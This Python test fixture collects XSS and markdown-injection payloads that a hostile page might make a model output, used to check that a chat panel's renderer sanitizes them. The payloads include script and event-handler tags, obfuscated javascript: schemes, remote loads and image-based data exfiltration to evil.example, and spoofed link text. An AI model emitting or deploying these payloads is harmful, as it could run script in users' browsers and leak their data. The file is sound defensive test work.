"""Texts a hostile page could make a model say, to run a script, load something or hide where a link leads.

Browser tests send them through the panel; test_markdown.py takes the HTML apart.  A script that ran would set
`window.pwned`, a request that went out would go to evil.example.
"""

RUN = "window.pwned=1"
_SCHEMES = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
            "&#106;avascript:", "&#x6A;&#x61;vascript:", "javascript%3A", "%6Aavascript:", "javascript:\u2028", "vbscript:",
            "data:text/html,", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,", "blob:", "file:///", "about:",
            "view-source:javascript:", "filesystem:", "ws://evil.example/", "ftp://evil.example/", "mailto:x@evil.example?"]
_HTML = [
    f"<script>{RUN}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f'<img src="x" onerror="{RUN}">', f"<img/src=x/onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<math href='javascript:{RUN}'>x</math>", f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<object data='javascript:{RUN}'>", f"<embed src='javascript:{RUN}'>",
    f"<body onload={RUN}>", f"<video src=x onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>", f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<form><button formaction='javascript:{RUN}'>x</button></form>", f"<a href='javascript:{RUN}'>x</a>",
    f"<a href=x onclick={RUN}>x</a>", f"<div onmouseover={RUN} style='position:fixed;inset:0'>x</div>",
    "<style>@import 'https://evil.example/x.css'</style>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href='https://evil.example/'>",
    f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><script>{RUN}</script>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<x onclick={RUN} hx-get=https://evil.example/ hx-trigger=load>x</x>", f"<div hx-on:load='{RUN}'>x</div>",
    "<p data-hx-get='/tasks' hx-trigger='load'>x</p>", f"</p></div></main><script>{RUN}</script>",
    "<img src=https://evil.example/?q=secret>", f"<b/onmouseover={RUN}>x</b>", "<a id=config name=config>clobber</a>",
    f"\x00<script>{RUN}</script>", f"<script\x0c>{RUN}</script>", f"\ufeff<script>{RUN}</script>", f"＜script＞{RUN}＜/script＞",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\<script>{RUN}\\</script>",
]
_MARKDOWN = [
    f'[x](https://a.example/"onmouseover={RUN})', f"[x](https://a.example 'x\" onmouseover=\"{RUN}')",
    f"[x](<https://a.example/\" onclick=\"{RUN}>)", f'![x" onerror="{RUN}](https://evil.example/a.png)',
    "![](https://evil.example/?q=secret)", "![a](https://evil.example/a.png \"title\")", "![a][1]\n\n[1]: https://evil.example/a.png",
    "[![a](https://evil.example/a.png)](https://evil.example/)", "![![a](https://evil.example/b)](https://evil.example/a)",
    "[x](//evil.example/)", "[x](/\\evil.example/)", "[x](\\\\evil.example\\)", "[x](/\t/evil.example/)", "[x](</\n/evil.example/>)",
    "[x](https:evil.example)", "[x](http:/\\evil.example)", "[https://bank.example](https://evil.example/)",
    "[**https://bank.example**](https://evil.example/)", "<https://bank.example@evil.example/>", "<https://bаnk.example>",
    "[\u202ehttps://elpmaxe.knab](https://evil.example/)", "[x](https://evil.example/\u202egpj.exe)", "[](https://evil.example/?q=secret)",
    f"[a]: javascript:{RUN}\n\n[a]", f"[a]: <javascript:{RUN}> 'x'\n\n[x][a]", f"```\"><script>{RUN}</script>\ncode\n```",
    f"```html onload={RUN}\n<script>{RUN}</script>\n```", f"~~~x\" onclick=\"{RUN}\ncode", f"`<script>{RUN}</script>`",
    f"    <script>{RUN}</script>", f"# <img src=x onerror={RUN}>", f"> <script>{RUN}</script>", f"- <script>{RUN}</script>",
    f"|a|\n|-|\n|<script>{RUN}</script>|", "|a|\n|:-:\" onclick=\"x|\n|b|", f"**<script>{RUN}</script>**", f"~~<b onclick={RUN}>x</b>~~",
    f"[x](javascript:{RUN}//https://a.example)", f"[x](https://a.example/#javascript:{RUN})", f"![x](data:text/html,<script>{RUN}</script>)",
    "1. a\n<!-- \n", "[" * 200 + "x" + "](https://evil.example/)" * 200, "*" * 300 + "<b>" + "*" * 300, "<" * 300, ">" * 300 + "x",
]
PAYLOADS = ([f"[click]({scheme}{RUN})" for scheme in _SCHEMES] + [f"<{scheme}{RUN}>" for scheme in _SCHEMES]
            + [f"![image]({scheme}{RUN})" for scheme in _SCHEMES[:8]] + _HTML + _MARKDOWN)
